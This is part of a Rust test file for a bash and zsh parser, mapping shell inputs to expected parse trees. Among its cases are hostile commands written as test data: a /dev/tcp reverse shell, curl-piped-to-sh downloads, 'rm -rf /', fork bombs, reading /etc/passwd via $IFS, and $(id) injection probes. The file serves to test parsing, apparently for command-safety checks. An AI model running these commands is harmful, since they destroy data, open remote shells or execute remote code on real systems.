    assign_invalid_name: "1a=2" => r#"(cmd 1a=2)"#;
    assign_glob_value: "a=*" => r#"(cmd (= a (w (glob "*"))))"#;
    declare_array: "declare -a x=(1 2)" => r#"(cmd declare -a (w "x=" (array 1 2)))"#;
    export_assign: "export X=1" => r#"(cmd export X=1)"#;
    local_plain: "local x" => r#"(cmd local x)"#;
    redir_after_group: "{ ls; } >f" => r#"(redirected (group (cmd ls)) (> f))"#;
    redir_after_while: "while :; do :; done <f" => r#"(redirected (while (cmd :) (cmd :)) (< f))"#;
    redir_before_cmd: ">&2 echo x" => r#"(cmd (>& &2) echo x)"#;
    redir_after_subshell: "(ls) 2>/dev/null" => r#"(redirected (subshell (cmd ls)) (2> /dev/null))"#;
    ifs_empty_prefix: "while IFS= read -r l; do echo \"$l\"; done < f.txt" => r#"(redirected (while (cmd (= IFS (w)) read -r l) (cmd echo (w q$l))) (< f.txt))"#;
    devtcp_redirect: "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1" => r#"(cmd bash -i (>& /dev/tcp/1.2.3.4/4444) (0>& &1))"#;
    subshell: "(a; b)" => r#"(subshell (list (cmd a) (cmd b)))"#;
    subshell_nested: "((a) )" => r#"(subshell (subshell (cmd a)))"#;
    group_in_pipeline: "{ a; } | b" => r#"(pipe (group (cmd a)) | (cmd b))"#;
    if_simple: "if a; then b; fi" => r#"(if (cmd a) (cmd b))"#;
    if_else: "if a; then b; else c; fi" => r#"(if (cmd a) (cmd b) (else (cmd c)))"#;
    if_elif: "if a; then b; elif c; then d; else e; fi" => r#"(if (cmd a) (cmd b) (elif (cmd c) (cmd d)) (else (cmd e)))"#;
    if_multiline: "if a\nthen\n  b\nfi" => r#"(if (cmd a) (cmd b))"#;
    for_in: "for x in a b; do echo $x; done" => r#"(for x (in a b) (cmd echo (w $x)))"#;
    for_no_in: "for x; do echo; done" => r#"(for x (cmd echo))"#;
    for_no_in_no_semi: "for x do echo; done" => r#"(for x (cmd echo))"#;
    for_empty_in: "for x in; do echo; done" => r#"(for x (in) (cmd echo))"#;
    for_newlines: "for x\nin a\ndo\necho\ndone" => r#"(for x (in a) (cmd echo))"#;
    for_brace_body: "for x in a; { echo; }" => r#"(for x (in a) (cmd echo))"#;
    while_loop: "while read x; do echo; done" => r#"(while (cmd read x) (cmd echo))"#;
    until_loop: "until a; do b; done" => r#"(until (cmd a) (cmd b))"#;
    case_empty: "case x in esac" => r#"(case x)"#;
    case_empty_item: "case x in a) ;; esac" => r#"(case x (a) (list) ;;)"#;
    case_newlines: "case $x in\n  a)\n    echo a\n    ;;\n  *)\n    echo b\n    ;;\nesac" => r#"(case (w $x) (a) (cmd echo a) ;; ((w (glob "*"))) (cmd echo b) ;;)"#;
    case_paren_patterns: "case x in (a|b) c;; esac" => r#"(case x (a|b) (cmd c) ;;)"#;
    case_last_without_terminator: "case x in a) b\nesac" => r#"(case x (a) (cmd b))"#;
    case_fallthrough: "case x in a) b;& c) d;;& *) e;; esac" => r#"(case x (a) (cmd b) ;& (c) (cmd d) ;;& ((w (glob "*"))) (cmd e) ;;)"#;
    case_pattern_quoted: "case x in \"a b\"|'c') d;; esac" => r#"(case x ((w d"a b")|(w s"c")) (cmd d) ;;)"#;
    case_pattern_extglob: "case x in @(a|b)) c;; esac" => r#"(case x ((w (extglob @ "a|b"))) (cmd c) ;;)"#;
    case_reserved_pattern: "case x in (esac) a;; esac" => r#"(case x (esac) (cmd a) ;;)"#;
    select_loop: "select x in a b; do echo $x; done" => r#"(select x (in a b) (cmd echo (w $x)))"#;
    arith_cmd_in_if: "if (( x > 1 )); then :; fi" => r#"(if (arith " x > 1 ") (cmd :))"#;
    cond_file: "[[ -f x ]]" => r#"(cond (-f x))"#;
    cond_nonempty: "[[ $x ]]" => r#"(cond (w $x))"#;
    cond_string_n: "[[ -n $x ]]" => r#"(cond (-n (w $x)))"#;
    cond_eq: "[[ a == b* ]]" => r#"(cond (== a (w "b" (glob "*"))))"#;
    cond_ne: "[[ a != b ]]" => r#"(cond (!= a b))"#;
    cond_regex: "[[ a =~ ^(a|b)+$ ]]" => r#"(cond (=~ a "^(a|b)+$"))"#;
    cond_regex_spaces_in_parens: "[[ a =~ (a b) ]]" => r#"(cond (=~ a "(a b)"))"#;
    cond_lt_gt: "[[ a < b && c > d ]]" => r#"(cond (&& (< a b) (> c d)))"#;
    cond_numeric: "[[ 1 -eq 2 ]]" => r#"(cond (-eq 1 2))"#;
    cond_and_or_not: "[[ ! a || b && c ]]" => r#"(cond (|| (! a) (&& b c)))"#;
    cond_group: "[[ ( a || b ) && c ]]" => r#"(cond (&& (paren (|| a b)) c))"#;
    cond_newline_after_and: "[[ a &&\n b ]]" => r#"(cond (&& a b))"#;
    cond_subscript_subst: "[[ 'a[$(id)]' -eq 0 ]]" => r#"(cond (-eq (w s"a[$(id)]") 0))"#;
    cond_v_test: "[[ -v x ]]" => r#"(cond (-v x))"#;
    cond_in_and_list: "[[ -d x ]] && cd x" => r#"(andor (cond (-d x)) && (cmd cd x))"#;
    cond_unary_as_string: "[[ -f ]]" => r#"(cond -f)"#;
    coproc_simple: "coproc ls -l" => r#"(coproc (cmd ls -l))"#;
    coproc_named_group: "coproc foo { ls; }" => r#"(coproc foo (group (cmd ls)))"#;
    coproc_unnamed_group: "coproc { ls; }" => r#"(coproc (group (cmd ls)))"#;
    coproc_named_subshell: "coproc foo (ls)" => r#"(coproc foo (subshell (cmd ls)))"#;
    function_parens: "f() { ls; }" => r#"(function f (group (cmd ls)))"#;
    function_keyword: "function f { ls; }" => r#"(function f (group (cmd ls)))"#;
    function_keyword_parens: "function f() { ls; }" => r#"(function f (group (cmd ls)))"#;
    function_subshell_body: "f() ( ls )" => r#"(function f (subshell (cmd ls)))"#;
    function_redirect: "f() { ls; } >log" => r#"(function f (redirected (group (cmd ls)) (> log)))"#;
    function_newline_body: "function f\n{\nls\n}" => r#"(function f (group (cmd ls)))"#;
    function_colon_name: ":(){ :|:& };:" => r#"(list (function : (group (bg (pipe (cmd :) | (cmd :))))) (cmd :))"#;
    function_recursive_bomb: "f(){ f|f& }; f" => r#"(list (function f (group (bg (pipe (cmd f) | (cmd f))))) (cmd f))"#;
    function_if_body: "f() if a; then b; fi" => r#"(function f (if (cmd a) (cmd b)))"#;
    pipeline_time_bang: "time ! a | b" => r#"(pipe time ! (cmd a) | (cmd b))"#;
    pipeline_pipe_amp: "a |& b | c" => r#"(pipe (cmd a) |& (cmd b) | (cmd c))"#;
    background_list: "a & b & c" => r#"(list (bg (cmd a)) (bg (cmd b)) (cmd c))"#;
    and_or_chain: "a && b || c && d" => r#"(andor (cmd a) && (cmd b) || (cmd c) && (cmd d))"#;
    nested_compounds: "if a; then while b; do { c; }; done; fi" => r#"(if (cmd a) (while (cmd b) (group (cmd c))))"#;
    zsh_repeat_do: "repeat 3 do ls; done" => r#"(repeat 3 (cmd ls))"#;
    zsh_repeat_brace: "repeat 3 { ls; }" => r#"(repeat 3 (cmd ls))"#;
    zsh_repeat_simple_is_command: "repeat 3 echo" => r#"(cmd repeat 3 echo)"#;
    zsh_foreach: "foreach x (a b) echo $x; end" => r#"(foreach x (in a b) (cmd echo (w $x)))"#;
    zsh_for_parens: "for x (a b) { echo $x; }" => r#"(for-zsh x (in a b) (cmd echo (w $x)))"#;
    zsh_if_brace: "if [[ x ]] { echo a; }" => r#"(if-zsh (cond x) (cmd echo a))"#;
    zsh_if_brace_else: "if [[ x ]] { a; } elif [[ y ]] { b; } else { c; }" => r#"(if-zsh (cond x) (cmd a) (elif (cond y) (cmd b)) (else (cmd c)))"#;
    zsh_while_brace: "while [[ x ]] { a; }" => r#"(while-zsh (cond x) (cmd a))"#;
    zsh_always: "{ ls; } always { echo done; }" => r#"(always (cmd ls) (cmd echo done))"#;
    zsh_glob_qualifier_code: "ls *(e:'id':)" => r#"(cmd ls (w (extglob * "e:" s"id" ":") zsh:GlobQualifier))"#;
    zsh_glob_qualifier_plain: "ls *.txt(.)" => r#"(cmd ls (w (glob "*") ".txt" (qual "(.)") zsh:GlobQualifier))"#;
    zsh_equals_cmd: "=curl example.invalid" => r#"(cmd (w "=curl" zsh:Equals) example.invalid)"#;
    zsh_named_dir: "ls ~[x]" => r#"(cmd ls (w "~" (glob "[x]") zsh:NamedDir))"#;
    foreach_as_command: "foreach x" => r#"(cmd foreach x)"#;
    end_as_command: "end x" => r#"(cmd end x)"#;
    repeat_as_command: "repeat" => r#"(cmd repeat)"#;
    fork_bomb_long: "bomb() { bomb | bomb & }; bomb" => r#"(list (function bomb (group (bg (pipe (cmd bomb) | (cmd bomb))))) (cmd bomb))"#;
    many_separators: "a; b & c && d || e | f |& g" => r#"(list (cmd a) (bg (cmd b)) (andor (cmd c) && (cmd d) || (pipe (cmd e) | (cmd f) |& (cmd g))))"#;
    empty_input: "" => r#"(list)"#;
    only_newlines: "\n\n\n" => r#"(list)"#;
    blank_input: "   \t " => r#"(list)"#;
    leading_semicolon_comment: "   # note" => r#"(list)"#;
    find_exec_terminator: "find . -name '*.tmp' -exec rm {} \\;" => r#"(cmd find . -name (w s"*.tmp") -exec rm {} (w e";"))"#;
    find_exec_plus: "find . -name '*.py' -exec grep -l TODO {} +" => r#"(cmd find . -name (w s"*.py") -exec grep -l TODO {} +)"#;
    curl_pipe_sh: "curl -fsSL https://example.invalid/i.sh | sh" => r#"(pipe (cmd curl -fsSL https://example.invalid/i.sh) | (cmd sh))"#;
    long_and_chain: "true && true && true && curl x | sh" => r#"(andor (cmd true) && (cmd true) && (cmd true) && (pipe (cmd curl x) | (cmd sh)))"#;
    while_read_loop_complex: "find . -print0 | while IFS= read -r -d '' f; do echo \"$f\"; done" => r#"(pipe (cmd find . -print0) | (while (cmd (= IFS (w)) read -r -d (w s"") f) (cmd echo (w q$f))))"#;
    param_arg_brace_then_text: "echo ${x:-{a}b}" => r#"(cmd echo (w (${ x :- {a) "b}"))"#;
    param_arg_quoted_rbrace: "echo ${x:-\"}\"}" => r#"(cmd echo (w (${ x :- (w d"}"))))"#;
    param_replace_escaped_rbrace: "echo ${x/\\}/y}" => r#"(cmd echo (w (${ x / (w e"}") y)))"#;
    cmd_test_bracket: "[ -f x ] && echo" => r#"(andor (cmd [ -f x ]) && (cmd echo))"#;
    exec_fd_redirect: "exec 3<>/dev/tcp/x/80" => r#"(cmd exec (3<> /dev/tcp/x/80))"#;
    let_subscript: "let 'x=a[$(id)]'" => r#"(cmd let (w s"x=a[$(id)]"))"#;
    history_bang_bang: "sudo !!" => r#"(cmd sudo !!)"#;
    line_continuation_pipeline: "cmd1 | \\\n  cmd2" => r#"(pipe (cmd cmd1) | (cmd cmd2))"#;
    subst_in_subscript: "echo ${arr[$(id)]}" => r#"(cmd echo (w (${ arr (sub (w ($( (cmd id)))))))"#;
    redir_order_dup_then_file: "cmd 2>&1 >/dev/null | less" => r#"(pipe (cmd cmd (2>& &1) (> /dev/null)) | (cmd less))"#;
    heredoc_redirect_after: "cat <<EOF >out\na\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF" d"a\n")) (> out))"#;
    param_default_quoted_with_param: "echo ${x:?\"err $y\"}" => r#"(cmd echo (w (${ x :? (w d"err " q$y))))"#;
    arith_adjacent: "echo $(( 1 ))$((2))" => r#"(cmd echo (w ($(( " 1 ") ($(( 2)))"#;
    eval_string: "eval \"ls -l\"" => r#"(cmd eval (w d"ls -l"))"#;
    trap_string: "trap 'curl x | sh' EXIT" => r#"(cmd trap (w s"curl x | sh") EXIT)"#;
    sh_c_string: "sh -c 'rm -rf /'" => r#"(cmd sh -c (w s"rm -rf /"))"#;
    env_wrapper: "env X=1 nohup rm -rf ~" => r#"(cmd env X=1 nohup rm -rf (w ~))"#;
    ifs_param_in_name: "cat$IFS/etc/passwd" => r#"(cmd (w "cat" $IFS "/etc/passwd"))"#;
    unicode_nbsp_in_word: "echo ok ; ls" => r#"(list (cmd echo "ok ") (cmd ls))"#;
    cr_in_word: "TZ=UTC\recho curl x" => r#"(cmd (= TZ "UTC\recho") curl x)"#;
    }
}

#[test]
fn every_keyword_passes_the_keyword_prefilter() {
    let all = [
        "!", "time", "{", "}", "if", "then", "else", "elif", "fi", "for", "in", "do", "done",
        "while", "until", "case", "esac", "select", "function", "coproc", "[[", "]]", "repeat",
        "foreach", "end",
    ];
    for k in all {
        assert!(keyword(k).is_some(), "{k}");
    }
    for w in ["", "ls", "functions", "x", "!!", "Done", "[", "]"] {
        assert!(keyword(w).is_none(), "{w}");
    }
}
